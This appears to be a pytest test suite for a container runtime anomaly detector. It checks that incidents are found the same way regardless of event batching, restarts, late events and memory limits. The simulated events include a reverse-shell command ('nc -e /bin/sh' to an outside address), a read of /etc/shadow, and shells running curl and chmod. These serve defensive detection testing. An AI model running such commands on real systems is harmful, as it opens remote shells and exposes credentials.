"""The order of events decides what is found, nothing else: not batches, not restarts, not repetition."""

import itertools

import numpy as np
import pytest
from detection.cluster import BEGIN, SECOND, Cluster, alerts, analyse, latest
from hypothesis import given, settings, strategies
from peerwatch.columns import ColumnsBuilder, EventColumns, ProcessFlag
from peerwatch.subjects import NOBODY

from collector.analysis import Analysis, Settings
from collector.records import BaselineEntry, Incident


def busy_cluster() -> Cluster:
    cluster = Cluster()
    old, new = cluster.pods(4), cluster.pods(3, revision="r2", at=70)
    cluster.normal(old, 0, 150, every=2)
    cluster.normal(new, 70, 150, every=2)
    for pod in new:
        cluster.exec(80.3, pod, "/usr/bin/pg_dump")
    for at, number in ((10.5, 1), (75.5, 2), (140.5, 0)):
        shell = cluster.exec(at, old[number], "/usr/bin/dash")
        for tool in ("curl", "chmod", "id"):
            cluster.exec(at + 0.05, old[number], f"/usr/bin/{tool}", parent="/usr/bin/dash", parent_pid=shell)
    cluster.exec(90.5, old[3], "/opt/odd")
    for port in range(1, 15):
        cluster.connect(110 + port / 5, old[0], "/usr/bin/dash", ("10.1.1.1", port))
    cluster.loss(61, "node-2", 5)
    return cluster


CLUSTER = busy_cluster()
WHOLE: EventColumns = CLUSTER.table()
END = BEGIN + 3000 * SECOND


def run(cuts: list[int]) -> list[Incident]:
    analysis, said = Analysis(), []
    edges = [0, *sorted(cuts), len(WHOLE)]
    for begin, end in itertools.pairwise(edges):
        said += analysis.observe(WHOLE.take(np.arange(begin, end)))
    return said + analysis.advance(END)


ONCE = run([])


@settings(max_examples=40, deadline=None)
@given(strategies.lists(strategies.integers(0, len(WHOLE)), max_size=25))
def test_however_the_events_are_cut_into_batches(cuts: list[int]) -> None:
    assert run(cuts) == ONCE


@pytest.mark.parametrize("room", [Settings(most_replicas=2), Settings(most_behaviours=3)], ids=["replicas", "behaviours"])
def test_where_there_is_too_little_room_too(room: Settings) -> None:
    def learn(rows: int) -> tuple[list[Incident], list[BaselineEntry]]:
        analysis, said = Analysis(room), []
        for begin in range(0, len(WHOLE), rows):
            said += analysis.observe(WHOLE.take(np.arange(begin, min(begin + rows, len(WHOLE)))))
        said += analysis.advance(END)
        return said, [entry for each in analysis.workloads() for entry in analysis.baseline(each.key)]

    once = learn(len(WHOLE))

    assert all(learn(rows) == once for rows in (1, 7, 97))


def test_one_event_at_a_time() -> None:
    assert run(list(range(len(WHOLE)))) == ONCE


def test_what_goes_on_is_told_again_in_one_table_as_in_many() -> None:
    life = Cluster()
    pods = life.pods(5)
    life.normal(pods, 0, 2000, every=4)
    for second in range(100, 2000, 7):  # longer than a cool-down, and much more often than there is room for evidence
        life.exec(second + 0.5, pods[2], "/usr/bin/nc", args=("nc", "-e", "/bin/sh", "203.0.113.9"))
    table = life.table()

    def told(rows: int) -> list[Incident]:
        analysis, said = Analysis(), []
        for begin in range(0, len(table), rows):
            said += analysis.observe(table.take(np.arange(begin, min(begin + rows, len(table)))))
        return said + analysis.finish()

    once = told(len(table))

    assert len(latest(once)) >= 2
    assert told(1) == once
    assert told(331) == once


def test_there_is_something_to_find() -> None:
    assert len(alerts(latest(ONCE))) >= 3


def test_a_restart_changes_no_later_verdict() -> None:
    def attack(cluster: Cluster) -> None:
        pods = cluster.pods(5)
        cluster.exec(210.5, pods[1], "/usr/bin/nc")  # again, on another replica than before
        cluster.exec(220.5, pods[4], "/usr/bin/psql")
        cluster.exec(230.5, pods[2], "/usr/bin/curl")

    before, after = Cluster(), Cluster()
    before.normal(before.pods(5), 0, 200)
    before.exec(100.5, before.pods(5)[0], "/usr/bin/nc")
    attack(after)
    through, first, second = Analysis(), Analysis(), Analysis()
    through.observe(before.table())
    expected = through.observe(after.table()) + through.advance(END)
    incidents = first.observe(before.table())
    changes = first.take_changes()
    second.restore(changes.replicas, changes.sightings, incidents)

    again = second.observe(after.table()) + second.advance(END)

    assert [(each.time, each.severity, each.kind, each.behaviours, each.reason) for each in again] == [
        (each.time, each.severity, each.kind, each.behaviours, each.reason) for each in expected
    ]
    assert second.workloads() == through.workloads()


def test_what_was_held_when_the_collector_stopped_is_still_decided() -> None:
    cluster = Cluster()
    pods = cluster.pods(5)
    cluster.normal(pods, 0, 2500, every=4)
    cluster.exec(2499.5, pods[1], "/opt/odd")
    first, second = Analysis(), Analysis()
    assert first.observe(cluster.table()) == []
    changes = first.take_changes()
    second.restore(changes.replicas, changes.sightings, [])

    (alert,) = latest(second.advance(END))

    assert alert.behaviours[0].key == "/opt/odd <- /usr/bin/server"
    assert [each.time for each in latest(first.advance(END))] == [alert.time]  # as if it had never stopped


def test_what_was_odd_about_a_program_is_odd_after_a_restart_too() -> None:
    cluster = Cluster()
    pods, late = cluster.pods(5), cluster.pods(6)[5:]
    cluster.normal(pods, 0, 2500, every=4)
    cluster.normal(late, 2490, 2500, every=4)
    cluster.exec(2499.5, late[0], "/opt/odd", flags=[ProcessFlag.UPPER_LAYER])  # it is starting: held whatever it is
    first, second = Analysis(), Analysis()
    assert first.observe(cluster.table()) == []
    changes = first.take_changes()
    second.restore(changes.replicas, changes.sightings, [])

    (alert,) = latest(second.advance(END))

    assert "a file written after the container's start" in alert.reason
    assert [each.severity for each in latest(first.advance(END))] == [alert.severity]


def test_changes_are_taken_once_and_absolute() -> None:
    cluster = Cluster()
    pods = cluster.pods(2)
    cluster.normal(pods, 0, 10)
    analysis = Analysis()
    analysis.observe(cluster.table())

    changes = analysis.take_changes()

    assert {(each.pod_uid, each.key, each.count) for each in changes.sightings if "psql" in each.key} == {
        ("uid-cart-r1-0", "/usr/bin/psql <- /usr/bin/server", 5),
        ("uid-cart-r1-1", "/usr/bin/psql <- /usr/bin/server", 5),
    }
    assert {each.pod for each in changes.replicas} == {"cart-r1-0", "cart-r1-1"}
    assert analysis.take_changes().sightings == []


def test_late_events_are_counted_and_do_not_turn_time_back() -> None:
    cluster = Cluster()
    pods = cluster.pods(5)
    cluster.normal(pods, 0, 100)
    late = cluster.pods(5)
    straggler = Cluster()
    straggler.exec(50.5, late[2], "/usr/bin/nc")
    analysis = Analysis()
    analysis.observe(cluster.table())

    (alert,) = latest(analysis.observe(straggler.table()) + analysis.advance(END))

    assert alert.first_event == BEGIN + int(50.5 * SECOND)
    assert alert.time >= BEGIN + 98 * SECOND


def test_events_of_unknown_pods_are_counted_and_not_analysed() -> None:
    builder = ColumnsBuilder()
    process = builder.process(pid=1, exe="/usr/bin/nc", args=("nc",))
    for number in range(7):
        builder.exec(BEGIN + number, builder.subject(NOBODY), process)
    analysis = Analysis()

    assert analysis.observe(builder.build()) == []
    assert analysis.counters.unresolved == 7
    assert analysis.workloads() == []


def test_a_pod_s_sandbox_is_no_container_of_its_workload() -> None:
    cluster = Cluster()
    for pod in cluster.pods(3, container=""):
        cluster.exec(0, pod, "/pause", parent="")
    analysis = Analysis()

    assert analysis.observe(cluster.table()) == []
    assert analysis.workloads() == []


def test_no_events_are_no_problem() -> None:
    analysis = Analysis()

    assert analysis.observe(Cluster().table()) == []
    assert analysis.advance(BEGIN) == []


def test_memory_is_bounded_by_the_settings() -> None:
    cluster = Cluster()
    for number in range(60):
        (pod,) = cluster.pods(1, first=number)
        for second in range(20):
            cluster.exec(number * 3 + second / 10, pod, f"/opt/{chr(97 + number % 26)}{chr(97 + second)}")
    for number in range(30):
        cluster.normal(cluster.pods(1, workload=f"other{number}"), 200 + number, 203 + number)
    small = Settings(most_replicas=10, most_behaviours=40, most_workloads=5, most_open_incidents=3)
    analysis = Analysis(small)

    analysis.observe(cluster.table())

    assert analysis.counters.folded_replicas > 0
    assert analysis.counters.dropped_behaviours > 0
    assert analysis.counters.forgotten_workloads == 26
    assert len(analysis.workloads()) == 5


def test_all_containers_together_have_a_bound_and_those_unseen_longest_go() -> None:
    cluster = Cluster()
    for number in range(20):
        cluster.normal(cluster.pods(2, workload=f"w{number:02}"), number * 10, number * 10 + 5)
    analysis = Analysis(Settings(most_sightings=60))

    analysis.observe(cluster.table())

    left = [each.key for each in analysis.workloads()]
    kept = sum(entry.replicas for key in left for entry in analysis.baseline(key))
    assert 40 <= kept <= 60
    assert [key.name for key in left] == [f"w{number:02}" for number in range(20 - len(left), 20)]
    assert analysis.counters.forgotten_workloads == 20 - len(left)


def test_a_container_that_is_alone_is_not_forgotten_for_itself(cluster: Cluster) -> None:
    cluster.normal(cluster.pods(5), 0, 60)
    analysis = Analysis(Settings(most_sightings=1))

    analysis.observe(cluster.table())

    assert analysis.counters.forgotten_workloads == 0
    assert len(analysis.workloads()) == 1


def test_a_workload_is_learning_first_and_settles(cluster: Cluster) -> None:
    pods = cluster.pods(5)
    cluster.normal(pods, 0, 60)
    first, later = Analysis(), Analysis()
    first.observe(cluster.table(0, 5))

    assert analyse(cluster, analysis=later) == []
    assert [each.phase for each in first.workloads()] == ["learning"]
    (summary,) = later.workloads()
    assert (summary.phase, summary.replicas, summary.learned, summary.candidates) == ("settled", 5, 3, 0)


def test_the_arguments_shown_and_judged_are_those_of_the_event_itself(cluster: Cluster) -> None:
    pods = cluster.pods(5)
    cluster.normal(pods, 0, 90)
    cluster.exec(60.5, pods[1], "/usr/bin/dash", args=("sh", "-c", "true"))
    cluster.exec(60.7, pods[2], "/usr/bin/dash", args=("sh", "-c", "cat /etc/shadow"))

    (alert,) = alerts(analyse(cluster))

    assert "T1003.008" in alert.techniques
